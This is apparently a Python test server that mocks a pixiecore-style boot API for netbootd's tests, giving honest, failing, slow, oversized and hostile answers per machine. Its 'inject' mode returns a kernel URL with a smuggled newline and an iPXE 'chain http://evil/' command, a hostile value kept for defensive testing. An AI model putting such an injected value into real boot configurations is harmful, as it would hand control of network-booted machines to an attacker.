#!/usr/bin/env python3
"""A boot API for netbootd's [boot_api] tests (pixiecore's API form), honest or hostile.

netbootd asks   GET /v1/boot/<mac>   (mac lower case with ':')
--mode MAC=KIND chooses the answer for one machine (default: ok):
  ok         200 {"kernel": K, "initrd": [I...], "cmdline": C} from --kernel/--initrd/--cmdline
  notfound   404
  error      500
  slow       sleeps --sleep seconds, then ok
  malformed  200 with a body that is not JSON
  huge       200 with --huge-bytes of valid-looking JSON, streamed (no Content-Length)
  trickle    200, one byte of a JSON answer every 0.5 s
  inject     200 whose kernel URL carries a newline and an iPXE command
--requests FILE appends one JSON line per request (path, time). Threaded (a slow answer
does not hold the others). Python 3 standard library only; prints "listening on HOST:PORT".
"""

from __future__ import annotations

import argparse
import json
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--mode", action="append", default=[])
    p.add_argument("--kernel", default="http://127.0.0.1/k")
    p.add_argument("--initrd", action="append", default=[])
    p.add_argument("--cmdline", default="")
    p.add_argument("--sleep", type=float, default=5.0)
    p.add_argument("--huge-bytes", type=int, default=8 << 20)
    p.add_argument("--requests")
    args = p.parse_args()
    modes = {}
    for item in args.mode:
        mac, _, kind = item.partition("=")
        modes[mac.strip().lower().replace("-", ":")] = kind
    lock = threading.Lock()
    answer = json.dumps({"kernel": args.kernel, "initrd": args.initrd, "cmdline": args.cmdline}).encode()

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, fmt: str, *a) -> None:
            sys.stderr.write("api: " + (fmt % a) + "\n")

        def send(self, status: int, body: bytes) -> None:
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self) -> None:  # noqa: N802
            if args.requests:
                with lock, open(args.requests, "a") as f:
                    f.write(json.dumps({"path": self.path, "time": time.time()}) + "\n")
            prefix = "/v1/boot/"
            if not self.path.startswith(prefix):
                self.send(400, b"{}")
                return
            kind = modes.get(self.path[len(prefix):].lower(), "ok")
            try:
                if kind == "ok":
                    self.send(200, answer)
                elif kind == "notfound":
                    self.send(404, b"{}")
                elif kind == "error":
                    self.send(500, b"{}")
                elif kind == "slow":
                    time.sleep(args.sleep)
                    self.send(200, answer)
                elif kind == "malformed":
                    self.send(200, b'{"kernel": "http://x/k", "initrd": [')
                elif kind == "inject":
                    self.send(200, json.dumps({"kernel": "http://x/k\nchain http://evil/", "cmdline": "a"}).encode())
                elif kind == "huge":
                    self.send_response(200)
                    self.send_header("Content-Type", "application/json")
                    self.send_header("Connection", "close")
                    self.end_headers()
                    chunk = b" " * 65536
                    self.wfile.write(b'{"kernel": "http://x/k", "cmdline": "')
                    sent = 0
                    while sent < args.huge_bytes:
                        self.wfile.write(chunk)
                        sent += len(chunk)
                    self.wfile.write(b'"}')
                    self.close_connection = True
                elif kind == "trickle":
                    self.send_response(200)
                    self.send_header("Content-Length", str(len(answer)))
                    self.end_headers()
                    for i in range(len(answer)):
                        self.wfile.write(answer[i:i + 1])
                        self.wfile.flush()
                        time.sleep(0.5)
                else:
                    self.send(400, b"{}")
            except (BrokenPipeError, ConnectionResetError):
                pass

    server = ThreadingHTTPServer((args.host, args.port), Handler)
    server.daemon_threads = True
    print(f"listening on {args.host}:{args.port}", flush=True)
    server.serve_forever()


if __name__ == "__main__":
    main()
